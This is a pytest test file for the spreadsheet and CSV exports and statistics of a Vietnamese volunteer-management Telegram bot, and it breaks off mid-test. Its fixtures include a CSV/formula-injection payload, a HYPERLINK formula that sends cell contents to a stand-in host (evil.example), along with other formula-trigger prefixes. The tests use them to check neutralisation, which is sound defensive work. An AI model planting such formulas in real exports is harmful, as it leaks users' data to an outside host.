"""Exports and statistics on a real SQLite file: the XLSX opened with openpyxl and the CSV with
the csv module, checking headers, typed cells, Vietnamese text, formula neutralisation, scopes,
the cadre's limits, empty scopes, the per-person queue, packing for Telegram and /stats figures."""

from __future__ import annotations

import asyncio
import csv
import io
import threading
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

import bot.exports
from bot.clock import ManualClock
from bot.domain.activities import ActivityKind, Audience, NewActivity, Question
from bot.domain.errors import InvalidInput, NotAllowed
from bot.domain.members import Actor, Member, NewMember, Role
from bot.exports import (
    ExportFormat,
    ExportKind,
    ExportRequest,
    ExportResult,
    ExportScope,
    ExportService,
    pack_for_upload,
    parse_date_range,
)
from bot.i18n import Catalogue
from bot.members import display_phone
from bot.stats import ChartLabels, PeriodKind, StatsService, chart_png
from storage import Database
from storage.activities import ActivityRepository
from storage.attendance import AttendanceRepository
from storage.db import to_db_time
from storage.exports import ExportRepository
from storage.members import MemberRepository
from storage.stats import StatsRepository
from storage.units import UnitRepository
from tests.spreadsheets import open_in_every_reader

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
NOW = datetime(2026, 11, 27, 3, 0, tzinfo=UTC)  # 10:00 in Hà Nội
START = datetime(2026, 11, 20, 8, 0, tzinfo=TZ)  # a past activity: attendance is final

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@x",
    "\tTab đầu dòng",
    'Trần "Bông" Hoa, phòng 3',
    "Dòng một\nDòng hai",
    "Nguyễn Thị Ánh Tuyết 🌸✨",
]


@dataclass
class World:
    db: Database
    clock: ManualClock
    service: ExportService
    stats: StatsService
    activities: ActivityRepository
    members: MemberRepository
    btp: int
    btc: int
    admin: Actor
    cadre: Actor
    cadre_btc: Actor
    next_id: int = 5000
    people: dict[str, Member] = field(default_factory=dict)

    async def member(self, name: str, unit: int, *, phone: str | None = None) -> Member:
        self.next_id += 1
        member = await self.members.create(
            NewMember(self.next_id, name, None, unit, phone, None, "vi", NOW - timedelta(days=40)),
            NOW - timedelta(days=40),
        )
        self.people[name] = member
        return member

    async def activity(
        self,
        title: str,
        unit: int,
        *,
        start: datetime = START,
        hours: float = 4.0,
        questions: tuple[Question, ...] = (),
        campaign_id: int | None = None,
    ) -> int:
        return await self.activities.create(
            NewActivity(
                title=title,
                description="",
                kind=ActivityKind.REGULAR,
                campaign_id=campaign_id,
                unit_id=unit,
                open_to=Audience.ALL,
                place="Hà Nội",
                starts_at=start,
                ends_at=start + timedelta(hours=4),
                deadline_at=start - timedelta(days=1),
                capacity=None,
                hours=hours,
                reminder_offsets=None,
                created_by=1,
                questions=questions,
            ),
            NOW - timedelta(days=30),
        )

    async def register(
        self, activity_id: int, member: Member, answers: dict[str, str] | None = None
    ) -> None:
        await self.activities.register(
            activity_id, member.id, answers or {}, NOW - timedelta(days=20)
        )

    async def attend(self, activity_id: int, member: Member) -> None:
        await AttendanceRepository(self.db).check_in(
            activity_id,
            member.id,
            START.astimezone(UTC) + timedelta(minutes=5),
            allow_walk_in=False,
        )


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    db = await Database.open(tmp_path / "db.sqlite3")
    units = UnitRepository(db)
    await units.upsert_many([("BTP", "Bộ Tư pháp"), ("BTC", "Bộ Tài chính")])
    btp = (await units.get_by_code("BTP")).id  # type: ignore[union-attr]
    btc = (await units.get_by_code("BTC")).id  # type: ignore[union-attr]
    clock = ManualClock(NOW)
    catalogue = Catalogue.load()
    exports = ExportRepository(db)
    service = ExportService(exports, units, catalogue, clock, tz=TZ, hours_per_day=8)
    stats = StatsService(StatsRepository(db), exports, clock, tz=TZ, hours_per_day=8)
    members = MemberRepository(db)
    world = World(
        db,
        clock,
        service,
        stats,
        ActivityRepository(db),
        members,
        btp,
        btc,
        admin=Actor(1, None, Role.ADMIN),
        cadre=None,  # type: ignore[arg-type]
        cadre_btc=None,  # type: ignore[arg-type]
    )
    secretary = await world.member("Lê Văn Bí Thư", btp)
    world.cadre = Actor(secretary.telegram_id or 0, secretary, Role.CADRE, btp)
    other = await world.member("Phạm Bí Thư Tài Chính", btc)
    world.cadre_btc = Actor(other.telegram_id or 0, other, Role.CADRE, btc)
    try:
        yield world
    finally:
        await db.close()


@pytest.fixture
async def seeded(world: World) -> World:
    """BTP organises "Hiến máu" (with a T-shirt question), BTC organises "Trồng cây"; hostile
    names and answers register; some attend."""
    shirt = Question(1, "Cỡ áo", ("S", "M", "L"), True)
    note = Question(2, "Ghi chú", None, False)
    blood = await world.activity("Hiến máu tình nguyện 🩸", world.btp, questions=(shirt, note))
    trees = await world.activity("Trồng cây", world.btc, start=START + timedelta(days=2), hours=2.0)
    for index, name in enumerate(HOSTILE):
        person = await world.member(name, world.btp if index % 2 == 0 else world.btc)
        await world.register(blood, person, {"1": "M", "2": HOSTILE[-1 - index]})
    anna = await world.member("Đỗ Thị An", world.btc, phone="+84912345678")
    await world.register(trees, anna)
    await world.attend(blood, world.people[HOSTILE[0]])
    await world.attend(blood, world.people[HOSTILE[7]])
    await world.attend(trees, anna)
    world.people["_blood"] = world.people[HOSTILE[0]]  # keep the names handy
    world.blood, world.trees = blood, trees  # type: ignore[attr-defined]
    return world


async def run(
    world: World,
    actor: Actor,
    kind: ExportKind,
    fmt: ExportFormat,
    tmp_path: Path,
    language: str = "vi",
    **scope: Any,
) -> ExportResult:
    folder = tmp_path / f"out-{kind}-{fmt}-{len(list(tmp_path.iterdir()))}"
    request = ExportRequest(kind, ExportScope(**scope), fmt, language)
    return await world.service.run(actor, request, folder)


def sheet_rows(path: Path, sheet: str) -> list[list[Any]]:
    book = load_workbook(path)
    return [list(row) for row in book[sheet].iter_rows(values_only=True)]


def csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel shows Vietnamese"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def by_header(rows: list[list[Any]]) -> list[dict[str, Any]]:
    header = rows[0]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


# --- XLSX -------------------------------------------------------------------------------------


async def test_registrations_xlsx_has_typed_cells_question_columns_and_the_exact_text(
    seeded: World, tmp_path: Path
) -> None:
    blood = seeded.blood  # type: ignore[attr-defined]
    result = await run(
        seeded,
        seeded.admin,
        ExportKind.REGISTRATIONS,
        ExportFormat.XLSX,
        tmp_path,
        activity_id=blood,
    )
    assert result.filename == f"dang-ky_hoat-dong-{blood}_2026-11-27.xlsx"
    assert result.rows == len(HOSTILE)
    book = load_workbook(result.files[0])
    assert book.sheetnames == ["Tổng hợp", "Đăng ký"]
    sheet = book["Đăng ký"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A1:")
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["C"].width > 8  # sized from the data
    rows = sheet_rows(result.files[0], "Đăng ký")
    header = rows[0]
    assert header[:3] == ["Mã đăng ký", "Mã hoạt động", "Hoạt động"]
    assert "Họ và tên" in header and "Ngày công" in header and "Số giờ tình nguyện" in header
    assert header[-2:] == ["Cỡ áo", "Ghi chú"]  # one column per registration question
    records = by_header(rows)
    # A string cell is never a formula: the text is exactly as stored, no apostrophe.
    assert [r["Họ và tên"] for r in records] == HOSTILE
    name_column = header.index("Họ và tên") + 1
    assert {sheet.cell(row, name_column).data_type for row in range(2, len(rows) + 1)} == {"s"}
    first = records[0]
    assert isinstance(first["Mã đăng ký"], int)
    assert first["Thời gian bắt đầu"] == datetime(2026, 11, 20, 8, 0)  # a date, local time
    assert first["Điểm danh lúc"] == datetime(2026, 11, 20, 8, 5)
    assert first["Số giờ tình nguyện"] == 4 and first["Ngày công"] == 0.5
    assert isinstance(first["Số giờ tình nguyện"], int)  # a whole number, not 4.0
    assert isinstance(first["Ngày công"], float)
    assert first["Trạng thái"] == "Đã xác nhận"
    assert first["Đơn vị"] == "Bộ Tư pháp"
    assert first["Đơn vị tổ chức"] == "Bộ Tư pháp"  # by name, not "BTP"
    assert first["Cỡ áo"] == "M"
    assert first["Ghi chú"] == HOSTILE[-1]  # emoji answer round-trips
    assert records[-1]["Ghi chú"] == HOSTILE[0]  # a formula-like answer, as typed
    assert records[1]["Số giờ tình nguyện"] == 0  # registered, not (yet) attended: a number
    assert isinstance(records[1]["Số giờ tình nguyện"], int)
    assert records[0]["Hoạt động"] == "Hiến máu tình nguyện 🩸"
    summary = sheet_rows(result.files[0], "Tổng hợp")
    flat = [cell for row in summary for cell in row if cell is not None]
    assert "Tổng cộng: Ngày công" in flat and 1 in flat  # two attendees x 0.5
    assert any(isinstance(cell, datetime) for cell in flat)  # exported at, as a date


async def test_english_requester_gets_english_headers(seeded: World, tmp_path: Path) -> None:
    result = await run(
        seeded, seeded.admin, ExportKind.REGISTRATIONS, ExportFormat.XLSX, tmp_path, "en"
    )
    book = load_workbook(result.files[0])
    assert book.sheetnames == ["Summary", "Registrations"]
    header = sheet_rows(result.files[0], "Registrations")[0]
    assert "Full name" in header and "Person-days (ngày công)" in header
    assert result.filename.startswith("registrations_all_")


async def test_a_table_longer_than_a_sheet_goes_on_in_numbered_sheets(
    seeded: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bot.exports, "XLSX_MAX_ROWS", 4)  # header + 3 rows a sheet
    result = await run(seeded, seeded.admin, ExportKind.REGISTRATIONS, ExportFormat.XLSX, tmp_path)
    book = load_workbook(result.files[0])
    assert book.sheetnames == ["Tổng hợp", "Đăng ký", "Đăng ký (2)", "Đăng ký (3)"]
    names = []
    for title in book.sheetnames[1:]:
        sheet = book[title]
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0][:2] == ("Mã đăng ký", "Mã hoạt động") and sheet["A1"].font.bold
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(rows[0]))}{len(rows)}"
        names += [r["Họ và tên"] for r in by_header([list(r) for r in rows])]
    assert len(names) == result.rows == len(HOSTILE) + 1
    assert names[0] == HOSTILE[0] and names[-1] == "Đỗ Thị An"


def service_reading(world: World, repository: ExportRepository) -> ExportService:
    """The world's export service, reading its rows through ``repository``."""
    return ExportService(
        repository, UnitRepository(world.db), Catalogue.load(), world.clock, tz=TZ, hours_per_day=8
    )


class FailingRepository(ExportRepository):
    """Gives the rows one at a time; after the second, the database fails or never answers
    (by then the first is written: the export asks for the third only after that)."""

    def __init__(self, db: Database, *, hang: bool) -> None:
        super().__init__(db)
        self.hang = hang
        self.started = asyncio.Event()

    async def stream(self, query: Any, chunk: int = 2000) -> AsyncIterator[list[Any]]:
        given = 0
        async for rows in super().stream(query, 1):
            yield rows
            given += 1
            if given == 2:
                self.started.set()
                if self.hang:
                    await asyncio.Event().wait()
                raise OSError("database is gone")


def xlsx_threads() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name.startswith("xlsx ")]


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_an_export_that_fails_half_way_leaves_no_file(
    seeded: World, tmp_path: Path, fmt: ExportFormat
) -> None:
    service = service_reading(seeded, FailingRepository(seeded.db, hang=False))
    request = ExportRequest(ExportKind.ATTENDANCE, ExportScope(), fmt)
    with pytest.raises(OSError, match="database is gone"):
        await service.run(seeded.admin, request, tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []
    assert xlsx_threads() == []


async def test_a_cancelled_export_leaves_no_file(seeded: World, tmp_path: Path) -> None:
    repository = FailingRepository(seeded.db, hang=True)
    service = service_reading(seeded, repository)
    request = ExportRequest(ExportKind.REGISTRATIONS, ExportScope(), ExportFormat.XLSX)
    task = asyncio.create_task(service.run(seeded.admin, request, tmp_path / "out"))
    await asyncio.wait_for(repository.started.wait(), 5)
    assert xlsx_threads()  # the sheet is being written, and deflated on its own thread
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert list((tmp_path / "out").iterdir()) == []
    assert xlsx_threads() == []
    assert not service.busy(seeded.admin)


# --- CSV --------------------------------------------------------------------------------------


async def test_registrations_csv_is_rfc4180_with_bom_and_formulas_guarded_invisibly(
    seeded: World, tmp_path: Path
) -> None:
    blood = seeded.blood  # type: ignore[attr-defined]
    result = await run(
        seeded,
        seeded.admin,
        ExportKind.REGISTRATIONS,
        ExportFormat.CSV,
        tmp_path,
        activity_id=blood,
    )
    assert result.files[0].suffix == ".csv"
    rows = csv_rows(result.files[0])
    records = by_header(rows)
    # What a spreadsheet would take for a formula starts with an invisible zero-width space;
    # everything else is exactly the stored text.
    assert [r["Họ và tên"] for r in records] == [
        "\u200b" + HOSTILE[0],
        "\u200b+1",
        "\u200b-2",
        "\u200b@x",
        "\u200b\tTab đầu dòng",
        'Trần "Bông" Hoa, phòng 3',
        "Dòng một\nDòng hai",
        "Nguyễn Thị Ánh Tuyết 🌸✨",
    ]
    assert "'" not in "".join(r["Họ và tên"] for r in records if "Bông" not in r["Họ và tên"])
    raw = result.files[0].read_bytes().decode("utf-8-sig")
    assert '"Trần ""Bông"" Hoa, phòng 3"' in raw  # RFC 4180 quoting
    assert "\r\n" in raw
    first = records[0]
    assert first["Thời gian bắt đầu"] == "2026-11-20 08:00"
    assert first["Số giờ tình nguyện"] == "4" and first["Ngày công"] == "0.5"
    assert first["Cỡ áo"] == "M"


async def test_attendance_csv_has_two_tables_in_one_zip(seeded: World, tmp_path: Path) -> None:
    result = await run(seeded, seeded.admin, ExportKind.ATTENDANCE, ExportFormat.CSV, tmp_path)
    assert result.files[0].suffix == ".zip"
    with zipfile.ZipFile(result.files[0]) as bundle:
        names = sorted(bundle.namelist())
        assert len(names) == 2
        totals_name = next(n for n in names if "tong-theo-doan-vien" in n)
        totals = list(csv.reader(io.StringIO(bundle.read(totals_name).decode("utf-8-sig"))))
    assert totals[0][:2] == ["Mã đoàn viên", "Họ và tên"]
    assert sorted(row[1] for row in totals[1:]) == sorted(
        ["\u200b" + HOSTILE[0], HOSTILE[7], "Đỗ Thị An"]
    )
    assert result.tables[0].rows == 3


# --- scopes and who may ask -------------------------------------------------------------------


async def test_unit_scope_keeps_the_units_members_and_activities(
    seeded: World, tmp_path: Path
) -> None:
    result = await run(
        seeded,
        seeded.admin,
        ExportKind.REGISTRATIONS,
        ExportFormat.CSV,
        tmp_path,
        unit_id=seeded.btc,
    )
    records = by_header(csv_rows(result.files[0]))
    # BTC members at BTP's blood drive, and everyone at BTC's own tree planting.
    assert {r["Mã đơn vị"] for r in records} == {"BTC"}
    assert {r["Hoạt động"] for r in records} == {"Hiến máu tình nguyện 🩸", "Trồng cây"}
    assert result.filename.startswith("dang-ky_don-vi-btc_")


async def test_date_range_scope_filters_by_activity_start(seeded: World, tmp_path: Path) -> None:
    result = await run(
        seeded,
        seeded.admin,
        ExportKind.REGISTRATIONS,
        ExportFormat.CSV,
        tmp_path,
        date_from=date(2026, 11, 22),
        date_to=date(2026, 11, 22),
    )
    records = by_header(csv_rows(result.files[0]))
    assert [r["Hoạt động"] for r in records] == ["Trồng cây"]
    assert "2026-11-22--2026-11-22" in result.filename


async def test_cadre_gets_only_their_unit_and_is_refused_elsewhere(
    seeded: World, tmp_path: Path
) -> None:
    trees = seeded.trees  # type: ignore[attr-defined]
    with pytest.raises(NotAllowed):
        await run(
            seeded,
            seeded.cadre,
            ExportKind.REGISTRATIONS,
            ExportFormat.CSV,
            tmp_path,
            unit_id=seeded.btc,
        )
    with pytest.raises(NotAllowed):
        await run(
            seeded,
            seeded.cadre,
            ExportKind.ATTENDANCE,
            ExportFormat.XLSX,
            tmp_path,
            activity_id=trees,
        )
    member = Actor(
        seeded.people["Đỗ Thị An"].telegram_id or 0, seeded.people["Đỗ Thị An"], Role.MEMBER
    )
    with pytest.raises(NotAllowed):
        await run(seeded, member, ExportKind.MEMBERS, ExportFormat.CSV, tmp_path)
    result = await run(seeded, seeded.cadre, ExportKind.MEMBERS, ExportFormat.CSV, tmp_path)
    records = by_header(csv_rows(result.files[0]))
    assert records and {r["Mã đơn vị"] for r in records} == {"BTP"}
    assert "don-vi-btp" in result.filename


async def test_empty_scope_gives_headers_and_a_note(world: World, tmp_path: Path) -> None:
    for fmt in ExportFormat:
        result = await run(world, world.admin, ExportKind.INITIATIVES, fmt, tmp_path)
        assert result.empty
    xlsx = await run(world, world.admin, ExportKind.BROADCASTS, ExportFormat.XLSX, tmp_path)
    rows = sheet_rows(xlsx.files[0], "Thông báo")
    assert rows[0][0] == "Mã thông báo"
    assert rows[1][0] == "Không có dữ liệu trong phạm vi đã chọn."
    csv_result = await run(world, world.admin, ExportKind.REGISTRATIONS, ExportFormat.CSV, tmp_path)
    assert csv_rows(csv_result.files[0])[1] == ["Không có dữ liệu trong phạm vi đã chọn."]


async def test_bad_scopes_are_refused_with_a_reason(seeded: World, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput) as reversed_range:
        await run(
            seeded,
            seeded.admin,
            ExportKind.REGISTRATIONS,
            ExportFormat.CSV,
            tmp_path,
            date_from=date(2026, 12, 31),
            date_to=date(2026, 1, 1),
        )
    assert reversed_range.value.key == "exports.dates_reversed"
    with pytest.raises(InvalidInput) as unsupported:
        await run(
            seeded, seeded.admin, ExportKind.INITIATIVES, ExportFormat.CSV, tmp_path, activity_id=1
        )
    assert unsupported.value.key == "exports.scope_unsupported"
    with pytest.raises(InvalidInput) as missing:
        await run(
            seeded, seeded.admin, ExportKind.ATTENDANCE, ExportFormat.CSV, tmp_path, activity_id=999
        )
    assert missing.value.key == "exports.activity_missing"
    assert parse_date_range("01/01/2026 - 31/12/2026") == (date(2026, 1, 1), date(2026, 12, 31))
    for text in ("hôm qua", "31/12/2026 - 01/01/2026", "2026-13-01 - 2026-12-31"):
        with pytest.raises(InvalidInput):
            parse_date_range(text)


# --- initiatives and broadcasts ---------------------------------------------------------------


async def test_initiatives_come_with_their_history(world: World, tmp_path: Path) -> None:
    author = await world.member("Vũ Sáng Tạo", world.btp)
    stamp = to_db_time(NOW - timedelta(days=3))
    await world.db.execute(
        "INSERT INTO initiatives (code, code_year, code_seq, author_member_id, unit_id, title, "
        "field, problem, solution, benefit, status, created_at, updated_at, submitted_at, "
        "decided_at) VALUES ('TTST-2026-0001', 2026, 1, ?, ?, '=1+1 Số hoá hồ sơ', 'digital', "
        "'Giấy tờ nhiều', 'Quét và lưu', 'Tiết kiệm 30%', 'accepted', ?, ?, ?, ?)",
        (author.id, world.btp, stamp, stamp, stamp, stamp),
    )
    await world.db.execute(
        "INSERT INTO initiatives (author_member_id, unit_id, title, status, created_at, "
        "updated_at) VALUES (?, ?, 'Bản nháp riêng', 'draft', ?, ?)",
        (author.id, world.btp, stamp, stamp),
    )
    for from_status, to_status, comment in (
        ("draft", "submitted", None),
        ("submitted", "accepted", "Rất thiết thực 👍"),
    ):
        await world.db.execute(
            "INSERT INTO initiative_history (initiative_id, actor_member_id, actor_role, "
            "from_status, to_status, comment, at) VALUES (1, ?, 'unit_cadre', ?, ?, ?, ?)",
            (author.id, from_status, to_status, comment, stamp),
        )
    result = await run(world, world.cadre, ExportKind.INITIATIVES, ExportFormat.XLSX, tmp_path)
    book = load_workbook(result.files[0])
    assert book.sheetnames == ["Tổng hợp", "Sáng kiến", "Lịch sử xử lý"]
    initiatives = by_header(sheet_rows(result.files[0], "Sáng kiến"))
    assert len(initiatives) == 1  # a draft never submitted stays private
    assert initiatives[0]["Tên sáng kiến"] == "=1+1 Số hoá hồ sơ"
    assert initiatives[0]["Lĩnh vực"] == "Chuyển đổi số"
    assert initiatives[0]["Trạng thái"] == "Được công nhận"
    history = by_header(sheet_rows(result.files[0], "Lịch sử xử lý"))
    assert [h["Sang trạng thái"] for h in history] == ["Đã nộp", "Được công nhận"]
    assert history[1]["Nhận xét"] == "Rất thiết thực 👍"
    assert isinstance(history[1]["Thời điểm"], datetime)
    with pytest.raises(NotAllowed):
        await run(
            world,
            world.cadre_btc,
            ExportKind.INITIATIVES,
            ExportFormat.XLSX,
            tmp_path,
            unit_id=world.btp,
        )


async def test_broadcast_report_counts_deliveries(world: World, tmp_path: Path) -> None:
    people = [await world.member(f"Người nhận {i}", world.btp) for i in range(3)]
    stamp = to_db_time(NOW - timedelta(hours=2))
    await world.db.execute(
        "INSERT INTO broadcasts (created_by, sender_unit_id, text_html, audience_kind, "
        "status, created_at, total) "
        "VALUES (?, ?, '<b>Họp</b> lúc 8h &amp; mang áo', 'units', 'done', ?, 3)",
        (world.cadre.actor_id, world.btp, stamp),
    )
    for person, state in zip(people, ("sent", "sent", "blocked"), strict=True):
        await world.db.execute(
            "INSERT INTO broadcast_recipients (broadcast_id, member_id, telegram_id, state) "
            "VALUES (1, ?, ?, ?)",
            (person.id, person.telegram_id, state),
        )
    result = await run(world, world.cadre, ExportKind.BROADCASTS, ExportFormat.XLSX, tmp_path)
    [report] = by_header(sheet_rows(result.files[0], "Thông báo"))
    assert report["Đã gửi"] == 2 and report["Đã chặn bot"] == 1 and report["Số người nhận"] == 3
    assert report["Nội dung"] == "Họp lúc 8h & mang áo"
    assert report["Người gửi"] == "Lê Văn Bí Thư"
    assert report["Tạo lúc"] == datetime(2026, 11, 27, 8, 0)


# --- one export at a time per person ------------------------------------------------------------


class GatedRepository(ExportRepository):
    """Holds every export at its first chunk until the test opens the gate. (An export reads
    through a copy of its repository bound to its own snapshot: what it records must live in
    shared objects, not in plain attributes.)"""

    def __init__(self, db: Database, chunk: int = 0) -> None:
        super().__init__(db)
        self.gate = asyncio.Event()
        self.entered: list[Any] = []
        self.inside = asyncio.Event()
        self.chunk = chunk
        self.streamed = asyncio.Event()
        self.release = asyncio.Event()

    async def stream(self, query: Any, chunk: int = 2000) -> AsyncIterator[list[Any]]:
        self.entered.append(query)
        self.inside.set()
        await self.gate.wait()
        async for rows in super().stream(query, self.chunk or chunk):
            yield rows
            if self.chunk:  # one row at a time, held after the first until released
                self.streamed.set()
                await self.release.wait()


async def test_a_second_export_waits_and_the_same_one_is_not_doubled(
    seeded: World, tmp_path: Path
) -> None:
    repository = GatedRepository(seeded.db)
    service = service_reading(seeded, repository)
    first = ExportRequest(ExportKind.MEMBERS, ExportScope(), ExportFormat.CSV)
    second = ExportRequest(ExportKind.REGISTRATIONS, ExportScope(), ExportFormat.CSV)
    task1 = asyncio.create_task(service.run(seeded.admin, first, tmp_path / "a"))
    await asyncio.wait_for(repository.inside.wait(), 5)
    assert service.busy(seeded.admin)
    task2 = asyncio.create_task(service.run(seeded.admin, second, tmp_path / "b"))
    with pytest.raises(InvalidInput) as doubled:
        await service.run(seeded.admin, first, tmp_path / "c")
    assert doubled.value.key == "exports.already_running"
    for _ in range(20):  # let the queued export run as far as it can
        await asyncio.sleep(0)
    assert len(repository.entered) == 1 and not task2.done()
    repository.gate.set()
    done1, done2 = await asyncio.wait_for(asyncio.gather(task1, task2), 10)
    assert done1.rows > 0 and done2.rows == len(HOSTILE) + 1
    assert not service.busy(seeded.admin)


# --- packing for Telegram's 50 MB -------------------------------------------------------------


def test_big_files_are_zipped_then_split(tmp_path: Path) -> None:
    text = tmp_path / "big.csv"
    text.write_text("Nguyễn Văn An,Bộ Tư pháp\r\n" * 5000, encoding="utf-8")
    files, packing = pack_for_upload(text, limit=20_000)
    assert packing == "zip" and files[0].name == "big.csv.zip"
    with zipfile.ZipFile(files[0]) as bundle:
        assert bundle.read("big.csv") == text.read_bytes()
    noise = tmp_path / "noise.xlsx"
    noise.write_bytes(bytes(range(256)) * 400 + __import__("os").urandom(50_000))
    parts, packing = pack_for_upload(noise, limit=30_000)
    assert packing == "split" and len(parts) >= 2
    assert all(p.stat().st_size <= 30_000 for p in parts)
    joined = tmp_path / "joined.zip"
    joined.write_bytes(b"".join(p.read_bytes() for p in parts))
    with zipfile.ZipFile(joined) as bundle:
        assert bundle.read("noise.xlsx") == noise.read_bytes()
    small = tmp_path / "small.csv"
    small.write_text("a,b\r\n")
    assert pack_for_upload(small, limit=20_000) == ([small], None)


# --- statistics -------------------------------------------------------------------------------


async def test_stats_per_unit_ranking_and_cadre_view(seeded: World) -> None:
    report = await seeded.stats.report(seeded.admin, PeriodKind.MONTH)
    by_code = {u.code: u.figures for u in report.ranking}
    btp, btc = by_code["BTP"], by_code["BTC"]
    # BTP: 5 members (secretary + 4 hostile names), 4 registered, 1 attended (4 h).
    # Participation counts who attended, not who signed up: 1 of 5.
    assert (btp.members, btp.participants, btp.registrations) == (5, 1, 4)
    assert (btp.participation, btp.attended, btp.person_days) == (20.0, 1, 0.5)
    # BTC: 6 members, 5 registered, 2 attended (4 h + 2 h): 2 of 6, and 2 of 5 ended seats.
    assert (btc.members, btc.participants, btc.registrations) == (6, 2, 5)
    assert (btc.participation, btc.attended, btc.person_days) == (33.3, 2, 0.75)
    assert btc.attendance_rate == 40.0 and btc.person_days_per_member == 0.13  # 0,125 ↑
    assert [u.code for u in report.ranking] == ["BTC", "BTP"]  # 33,3% before 20%
    assert report.bloc.figures.person_days == 1.25 and report.bloc.units == 2
    mine = await seeded.stats.report(seeded.cadre, PeriodKind.MONTH)
    assert mine.focus is not None and mine.focus.code == "BTP" and mine.focus_rank == 2
    later = await seeded.stats.report(seeded.admin, PeriodKind.YEAR)
    assert later.bloc.figures.registrations == report.bloc.figures.registrations
    member = Actor(
        seeded.people["Đỗ Thị An"].telegram_id or 0, seeded.people["Đỗ Thị An"], Role.MEMBER
    )
    with pytest.raises(NotAllowed):
        await seeded.stats.report(member, PeriodKind.MONTH)
    png = chart_png(
        mine,
        ChartLabels(
            "Tỷ lệ tham gia — tháng 11/2026",
            "%",
            "Bình quân khối",
            "{participation} · {days} ngày công",
        ),
        "vi",
    )
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5000


async def test_stats_by_campaign(world: World) -> None:
    await world.db.execute(
        "INSERT INTO campaigns (name, unit_id, starts_on, ends_on, created_by, created_at) "
        "VALUES ('Mùa hè xanh 2026', NULL, '2026-06-01', '2026-08-31', 1, ?)",
        (to_db_time(NOW),),
    )
    summer = await world.activity(
        "Tiếp sức mùa thi", world.btp, start=datetime(2026, 7, 1, 7, 0, tzinfo=TZ), campaign_id=1
    )
    other = await world.activity("Ngoài chiến dịch", world.btp)
    volunteer = await world.member("Hồ Tình Nguyện", world.btp)
    await world.register(summer, volunteer)
    await world.register(other, volunteer)
    report = await world.stats.report(world.admin, PeriodKind.CAMPAIGN, 1)
    assert report.period.campaign_name == "Mùa hè xanh 2026"
    assert sum(u.figures.registrations for u in report.ranking) == 1


# --- every reader sees the same clean values ----------------------------------------------------


@pytest.mark.parametrize("kind", list(ExportKind))
async def test_every_xlsx_export_opens_the_same_in_independent_readers(
    seeded: World, tmp_path: Path, kind: ExportKind
) -> None:
    for language in ("vi", "en"):
        result = await run(seeded, seeded.admin, kind, ExportFormat.XLSX, tmp_path, language)
        # openpyxl, python-calamine and pandas (calamine) agree cell for cell; every row and
        # cell carries its reference, each sheet its dimension, no sheet name is reserved.
        sheets = open_in_every_reader(result.files[0])
        assert len(sheets) == len(result.tables) + 1  # the summary, then one per table
        for table in result.tables:
            assert len(sheets[table.name]) == 1 + max(table.rows, 1)  # header, rows or note


async def test_cells_show_phones_units_and_figures_as_people_write_them(
    world: World, tmp_path: Path
) -> None:
    third = await world.activity("Dạy học", world.btp, hours=2.5)
    people = [
        await world.member("Mobile Việt", world.btc, phone="+84912345678"),
        await world.member("Bàn Hà Nội", world.btc, phone="+842438251234"),
        await world.member("Bạn Lào", world.btc, phone="+8562055512345"),
    ]
    for person in people:
        await world.register(third, person)
        await world.attend(third, person)
    result = await run(
        world, world.admin, ExportKind.REGISTRATIONS, ExportFormat.XLSX, tmp_path, activity_id=third
    )
    records = by_header(open_in_every_reader(result.files[0])["Đăng ký"])
    assert [r["Số điện thoại"] for r in records] == [
        "0912 345 678",
        "024 3825 1234",
        "+8562055512345",
    ]
    assert {r["Đơn vị tổ chức"] for r in records} == {"Bộ Tư pháp"}  # the name, not "BTP"
    assert {r["Đơn vị"] for r in records} == {"Bộ Tài chính"}
    # 2.5 h is 0.3125 ngày công, 0.31 on each row; the total derives from the 7.5 h total
    # (0.9375 → 0.94, half up), never from the rounded rows (3 × 0.31 = 0.93).
    assert {r["Số giờ tình nguyện"] for r in records} == {2.5}
    assert {r["Ngày công"] for r in records} == {0.31}
    summary = dict(
        (row[0], row[1]) for row in sheet_rows(result.files[0], "Tổng hợp") if len(row) > 1
    )
    assert summary["Tổng cộng: Số giờ tình nguyện"] == 7.5
    assert summary["Tổng cộng: Ngày công"] == 0.94
    csv_result = await run(
        world, world.admin, ExportKind.REGISTRATIONS, ExportFormat.CSV, tmp_path, activity_id=third
    )
    rows = by_header(csv_rows(csv_result.files[0]))
    # Phones start with 0 now, so no guard; a foreign one keeps its +, behind the guard.
    assert [r["Số điện thoại"] for r in rows] == [
        "0912 345 678",
        "024 3825 1234",
        "\u200b+8562055512345",
    ]
    assert rows[0]["Ngày công"] == "0.31" and rows[0]["Số giờ tình nguyện"] == "2.5"


def test_phones_are_shown_as_vietnamese_people_write_them() -> None:
    assert display_phone("+84912345678") == "0912 345 678"
    assert display_phone("+84387654321") == "0387 654 321"
    assert display_phone("+842838251234") == "028 3825 1234"
    assert display_phone("+842033825123") == "02033825123"  # a provincial landline: as dialled
    assert display_phone("+14155550100") == "+14155550100"  # foreign: as stored, with +
    assert display_phone(None) is None and display_phone("") == ""


async def test_no_sheet_takes_a_name_excel_reserves(world: World, tmp_path: Path) -> None:
    result = await run(
